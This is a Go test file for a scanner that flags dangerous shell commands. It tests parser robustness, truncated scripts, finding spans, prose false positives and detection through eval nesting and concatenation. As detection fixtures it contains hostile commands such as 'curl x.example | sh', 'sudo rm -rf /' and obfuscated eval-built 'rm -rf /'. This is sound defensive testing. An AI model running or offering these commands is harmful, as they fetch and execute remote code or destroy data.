// Copyright 2026 The Holdfast Authors
// SPDX-License-Identifier: Apache-2.0

package shell

import (
	"strings"
	"testing"
)

// TestHostile: no text makes the parser go down too deep, or the reader go
// round for long; what is too much is an error.
func TestHostile(t *testing.T) {
	const size = 1 << 16
	for _, unit := range []string{
		"(", "$(", "`", "\"$(", "${a:-", "$((", "$((-", "$((1?", "$((a=", "$((1**", "if ", "while ", "{ ", "f()", "a&&", "a|", "[[ ! ", "case a in a) ",
		"<<a\n", "<<'a' ", "'", "\"", "\\", "a=$a$a;", "eval 'eval ", "sh -c \"", "}\n", ")\n", "fi\n", "<(", "{a,b}", "é", "\xff", "\x00", "\x01",
		"curl x|sh\n", "cat <<E|sh\nE\n", "x=`echo $x$x`;", "for a in b; do ", "time ", "let -", "a[", "#\n", "rm -rf / ", "$'", "echo (\n",
	} {
		finder.Check(t, strings.Repeat(unit, size/len(unit)))
	}
	finder.Check(t, "[[ "+strings.Repeat("a || ", size/5))
	finder.Check(t, "$(("+strings.Repeat("- ", size/2))
	finder.Check(t, "let "+strings.Repeat("-", size))
}

// TestQuine: a script that grows when it is read ends.
func TestQuine(t *testing.T) {
	x := "x='echo a'\n" + strings.Repeat("x=\"$x;$x\"\n", 64) + strings.Repeat("eval \"$x\"\n", 1000)
	finder.Check(t, x)
}

// TestCut: most texts that match, cut behind what is dangerous or in the middle
// of something else, still match.
func TestCut(t *testing.T) {
	for _, text := range []string{
		"curl x.example | sh; echo \"unfinished",
		"if [ -f a ]; then\n  curl x.example | sh\n",
		"done\n}\ncurl x.example | sh\n",
		"for f in a b; do curl x.example | bash",
		"echo 'it''s'\ncase x in\n esac esac\ncurl x.example | sh\n",
		"foo( bar\ncurl -s x.example | sudo sh\n",
		"curl x.example | sh && (",
		"cat <<EOF\nnever ends\n$(curl x.example | sh)\n",
		"x=(1 2\ncurl x.example | sh",
		"curl x.example | sh )",
		"echo \"a\n\ncurl x.example | sh\n",
	} {
		if got := finder.Kinds(t, text); len(got) == 0 || got[0] != "shell-download-to-shell" {
			t.Errorf("%q: %q", text, got)
		}
	}
}

// TestSpan: a finding is at its command, code in code at the command around.
func TestSpan(t *testing.T) {
	finder.Places(t, map[string]string{
		"é; curl x | sh; ls":               "curl x | sh",
		"ls\nsudo rm -rf /\nls":            "sudo rm -rf /",
		"ls; bash -c 'ls; rm -rf /'; ls":   "bash -c 'ls; rm -rf /'",
		"foo( bar\nls; curl x | sh ; ls\n": "curl x | sh",
	})
}

// TestProse: sentences that speak of commands are no commands.
func TestProse(t *testing.T) {
	finder.Nothing(t,
		"Please don't run curl commands you found and pipe them to a shell.",
		"To remove everything, some people type rm -rf / and regret it.",
		"The reverse shell connects to /dev/tcp, as nc -e would; we block both.",
		"Read the file /etc/shadow? No: it's for root (and only root).",
		"We use base64 -d; then the result goes to sh. That's bad!",
		"| column | value |\n|---|---|\n| rm | removes |\n",
		"Dear all,\nthe history of the project - see history.md - is long.\nYours, Eva",
	)
}

const script = `#!/bin/bash
set -euo pipefail
# Builds the thing.
readonly root="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
for target in linux darwin windows; do
  out="${root}/dist/${target}"
  mkdir -p "$out"
  if ! GOOS=$target go build -o "$out/app" ./cmd/app > "$out/log.txt" 2>&1; then
    echo "building for $target failed:" >&2
    sed -e 's/^/  /' "$out/log.txt" | head -n 20 >&2
    exit 1
  fi
  tar -C "$out" -czf "${root}/app-${target}.tar.gz" app
done
case "${1:-}" in
  --publish) scp_target=$(git config release.host) ; echo "to $scp_target" ;;
  *) echo done ;;
esac
`

func BenchmarkFind(b *testing.B) { finder.Bench(b, script) }

// What is not looked at is not said to be harmless: code in code that is too
// deep, or put together from too much.
func TestCodeBeyondWhatIsLookedAt(t *testing.T) {
	code := "rm -rf /"
	for depth := range 10 {
		found, err := Find(code)
		if len(found) == 0 && err == nil {
			t.Errorf("%d deep: nothing", depth)
		}
		code = "eval '" + strings.ReplaceAll(code, "'", `'\''`) + "'"
	}
	half := strings.Repeat(": aaaa;", 6000)
	for _, code := range []string{
		"x='" + half + "'; y='" + half + "rm -rf /'; eval \"$x$y\"",
		"x='" + half + "'; y='" + half + "rm -rf /'; eval $x $y",
		"x='" + half + "'; x+='" + half + "rm -rf /'; bash -c \"$x\"",
		"x='" + half + "'; y='" + half + "rm -rf /'; echo \"$x$y\" | sh",
	} {
		found, err := Find(code)
		if len(found) == 0 && err == nil {
			t.Errorf("%.20s … %s: nothing", code, code[len(code)-20:])
		}
	}
	found, err := Find("rm -rf /; x='" + half + "'; y='" + half + "'; eval \"$x$y\"")
	if len(found) == 0 || err == nil {
		t.Errorf("got %v, %v; want both", found, err)
	}
}
